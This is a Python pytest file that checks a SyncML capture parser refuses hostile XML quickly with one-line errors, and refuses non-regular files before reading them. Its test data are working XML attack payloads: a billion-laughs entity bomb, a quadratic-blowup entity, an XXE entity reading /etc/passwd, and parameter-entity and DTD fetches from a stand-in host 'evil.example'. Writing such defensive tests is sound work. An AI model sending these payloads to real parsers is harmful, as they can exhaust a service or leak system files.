"""Untrusted captures: every attack is refused with one line, quickly (well under a
second), before any work that grows with it; files that are not regular are refused
before they are read."""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest

from lifecycle.syncml import MAX_BYTES, MAX_DEPTH, SyncMLError, parse, read_capture

_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(2, 10)).replace(
        "&lol1;", "&lol;"
    )
    + "]>\n<SyncML>&lol9;</SyncML>"
)
_QUADRATIC = (
    '<!DOCTYPE q [<!ENTITY a "' + "x" * 50_000 + '">]><SyncML>' + "&a;" * 15_000 + "</SyncML>"
)
_XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><SyncML>&xxe;</SyncML>'
_PARAMETER = '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><SyncML/>'
_EXTERNAL_DTD = '<!DOCTYPE SyncML SYSTEM "http://evil.example/syncml.dtd"><SyncML/>'
_DEEP = "<SyncML>" + "<a>" * 100_000 + "</a>" * 100_000 + "</SyncML>"  # 700 kB


@pytest.mark.parametrize(
    ("xml", "needle"),
    [
        (_LAUGHS, "entity expansion, as in billion laughs"),
        (_QUADRATIC, "entity expansion"),
        (_XXE, "external entity (XXE)"),
        (_PARAMETER, "external entity (XXE)"),
        (_EXTERNAL_DTD, "a DTD (<!DOCTYPE>): refused"),
        (_DEEP, f"nested deeper than {MAX_DEPTH} levels"),
        (b"<SyncML>" + b" " * MAX_BYTES + b"</SyncML>", "larger than 1,048,576 bytes"),
        ("<SyncML>" + "\u00e9" * (MAX_BYTES // 2 + 1) + "</SyncML>", "larger than 1,048,576"),
        ("<SyncML>&xxe;</SyncML>", "undefined entity"),
    ],
    ids=["laughs", "quadratic", "xxe", "parameter", "dtd", "deep", "big", "big-utf8", "undef"],
)
def test_each_attack_is_refused_with_one_line_quickly(xml: str | bytes, needle: str) -> None:
    for form in (xml, xml.encode() if isinstance(xml, str) else xml):
        started = time.perf_counter()
        with pytest.raises(SyncMLError) as caught:
            parse(form)
        assert time.perf_counter() - started < 0.5
        message = str(caught.value)
        assert "\n" not in message and needle in message, message
        assert "root:" not in message  # nothing of /etc/passwd


def test_nesting_up_to_the_limit_is_read() -> None:
    # 100 levels parse (then fail only as outside the subset): the limit is exact.
    inner = "<Item>" * (MAX_DEPTH - 1) + "</Item>" * (MAX_DEPTH - 1)
    with pytest.raises(SyncMLError, match="not in the subset"):
        parse(f"<SyncML>{inner}</SyncML>")
    with pytest.raises(SyncMLError, match="nested deeper"):
        parse(f"<SyncML><Item>{inner}</Item></SyncML>")


def test_a_file_of_exactly_the_limit_is_read() -> None:
    head = b'<SyncML xmlns="SYNCML:SYNCML1.2">'
    tail = b"</SyncML>"
    xml = head + b" " * (MAX_BYTES - len(head) - len(tail)) + tail
    with pytest.raises(SyncMLError, match="needs one <SyncHdr>"):
        parse(xml)


def test_files_that_are_not_regular_are_refused_before_reading(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.xml"
    os.mkfifo(fifo)
    started = time.perf_counter()
    with pytest.raises(SyncMLError, match=r"not a regular file \(a FIFO\)"):
        read_capture(fifo)
    assert time.perf_counter() - started < 0.5
    with pytest.raises(SyncMLError, match=r"not a regular file \(a device"):
        read_capture("/dev/zero")
    with pytest.raises(SyncMLError, match=r"not a regular file \(a directory\)"):
        read_capture(tmp_path)
    with pytest.raises(SyncMLError, match="cannot read the file: No such file"):
        read_capture(tmp_path / "missing.xml")
    big = tmp_path / "big.xml"
    big.write_bytes(b" " * (MAX_BYTES + 1))
    with pytest.raises(SyncMLError, match="larger than 1,048,576 bytes"):
        read_capture(big)
    small = tmp_path / "small.xml"
    small.write_bytes(b"<SyncML/>")
    assert read_capture(small) == b"<SyncML/>"
